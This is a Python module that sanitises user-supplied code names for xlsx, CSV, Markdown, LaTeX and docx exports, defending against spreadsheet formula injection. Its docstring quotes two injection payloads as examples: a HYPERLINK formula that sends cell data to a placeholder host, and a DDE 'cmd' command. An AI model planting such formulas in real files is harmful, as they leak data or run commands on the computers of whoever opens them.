"""User-supplied text made inert for each output format: shown as written, never run.

Names arrive from other people's .qdpx/.qdc files, Google Docs comments and CSVs, so a code called
``=HYPERLINK("http://x/?"&A1,"click")`` or ``+cmd|' /C calc'!A0`` must not become a live formula
in the spreadsheet a supervisor opens. Every export goes through these functions:

- xlsx: a text cell starting with ``= + - @`` TAB or CR is written as a string with Excel's
  "quote prefix" (the apostrophe Excel itself adds when you type ``'=``): the cell shows the text
  exactly and stays text when edited. Numbers stay numbers.
- csv: such a cell gets a leading apostrophe (``'=HYPERLINK(...)``), the OWASP advice, since CSV
  has no types; qualcode's own CSV readers take it off again (``from_csv_cell``).
- md: ``|`` is escaped and line breaks become spaces, so a name cannot add columns or rows.
- tex: LaTeX's special characters are escaped.
- docx/xlsx: characters XML cannot hold (control characters) are dropped.
A text that is a plain number (``-2``, ``+3.5``) cannot run anything and is left as it is.
"""

from __future__ import annotations

import re
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+([.,]\d*)?|[.,]\d+)([eE][+-]?\d+)?")
_XML_ILLEGAL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")
_TEX_SPECIALS = {
    "\\": r"\textbackslash{}",
    "&": r"\&",
    "%": r"\%",
    "$": r"\$",
    "#": r"\#",
    "_": r"\_",
    "{": r"\{",
    "}": r"\}",
    "~": r"\textasciitilde{}",
    "^": r"\textasciicircum{}",
}


def formula_like(value: Any) -> bool:
    """Text a spreadsheet would read as a formula (or a DDE command) if typed into a cell."""
    return (
        isinstance(value, str)
        and value.startswith(FORMULA_STARTS)
        and not _PLAIN_NUMBER.fullmatch(value.strip())
    )


def csv_cell(value: Any) -> Any:
    """A CSV cell: formula-like text behind an apostrophe, anything else unchanged."""
    return "'" + value if formula_like(value) else value


def from_csv_cell(text: str) -> str:
    """Undo ``csv_cell`` when reading a CSV qualcode (or a careful tool) wrote."""
    return text[1:] if text.startswith("'") and formula_like(text[1:]) else text


def xml_text(text: str) -> str:
    """Text without the control characters an XML document (docx, xlsx) cannot hold."""
    return _XML_ILLEGAL.sub("", text)


def xlsx_cell(cell: Any, value: Any) -> None:
    """Put ``value`` into an openpyxl cell: text as text (quote-prefixed if formula-like)."""
    if isinstance(value, str):
        if value == "":
            return
        cell.value = xml_text(value)
        cell.data_type = "s"  # openpyxl would make "=..." a formula
        if formula_like(value):
            cell.quotePrefix = True
        return
    cell.value = value


def md_cell(value: Any) -> Any:
    """A Markdown table cell: ``|`` escaped, line breaks as spaces."""
    if not isinstance(value, str):
        return value
    return " ".join(value.replace("|", r"\|").splitlines())


def tex_text(text: str) -> str:
    """LaTeX source that prints ``text`` as written."""
    return "".join(_TEX_SPECIALS.get(ch, ch) for ch in text)
